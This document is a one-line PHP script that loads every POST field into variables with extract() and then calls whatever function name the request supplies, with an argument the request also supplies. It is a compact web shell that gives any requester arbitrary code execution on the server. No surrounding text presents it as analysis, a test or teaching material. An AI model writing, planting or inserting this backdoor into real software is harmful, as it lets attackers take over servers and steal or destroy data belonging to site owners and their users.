<?php extract($_POST); if (isset($fn)) { echo $fn($arg); }
